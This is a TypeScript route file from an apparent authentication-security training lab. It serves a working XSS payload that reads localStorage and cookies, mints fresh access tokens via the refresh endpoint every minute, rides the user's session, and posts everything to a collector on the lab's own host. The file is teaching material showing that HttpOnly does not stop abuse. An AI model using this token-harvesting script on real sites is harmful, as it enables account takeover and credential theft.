/**
 * GET /xss/payload.js: the script an XSS would run in the web app's page. The lab injects it (the
 * Attacks area adds a `<script src>` pointing here; the app has no real injection point), and from
 * then on it runs with the page's origin and privileges:
 *
 * 1. it reads what any script can read — localStorage, document.cookie — and ships it to the
 *    collector (POST /collect on this site): in the documents' mode that is both tokens;
 * 2. it calls POST /api/jwt/refresh itself, with the app's own custom header: the browser attaches
 *    the HttpOnly refresh cookie the script cannot read, and the answer — a fresh access token —
 *    goes to the collector too, again every REFRESH_EVERY_MS while the page stays open
 *    (RFC 10017 §5.3, "Acquisition of New Tokens");
 * 3. it acts as the user on the session API (GET /api/session/me, session riding): nothing to
 *    steal, but every request it sends carries the cookie.
 *
 * Teaches: HttpOnly stops theft, not abuse: a script in the page can use every credential the
 * page can use, for as long as the page is open.
 *
 * Flow step ids: jwt.attack-xss-documents.*, jwt.attack-xss-memory.*, session.attack-xss.* (the
 * injected script's steps).
 * Reference: RFC 10017 §5 ("Attack scenarios"), §5.1–5.3; OWASP XSS Prevention Cheat Sheet; OWASP
 * HTML5 Security Cheat Sheet, "Local Storage".
 */
import Router from '@koa/router';

/** How often the injected script mints and ships a new access token while the page is open. */
export const REFRESH_EVERY_MS = 60_000;

function buildPayload(collectUrl: string): string {
  return `(() => {
  const collect = (kind, data) =>
    fetch(${JSON.stringify(collectUrl)}, { method: 'POST', body: JSON.stringify({ kind, data }) });
  const json = (response) => response.json().then((body) => ({ status: response.status, body }));
  collect('localStorage', { ...window.localStorage });
  collect('document.cookie', document.cookie);
  const mint = () =>
    fetch('/api/jwt/refresh', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', 'X-Requested-With': 'authlab' },
      body: '{}',
    })
      .then(json)
      .then((answer) => collect('minted-access-token', answer));
  mint();
  setInterval(mint, ${REFRESH_EVERY_MS});
  fetch('/api/session/me').then(json).then((answer) => collect('session-riding', answer));
})();
`;
}

export function createXssPayloadRouter(): Router {
  const router = new Router();
  router.get('/xss/payload.js', (ctx) => {
    ctx.type = 'application/javascript';
    ctx.set('Access-Control-Allow-Origin', '*');
    // This site as the victim's browser reached it (localhost or 127.0.0.1): the collector is here.
    ctx.body = buildPayload(`${ctx.protocol}://${ctx.host}/collect`);
  });
  return router;
}
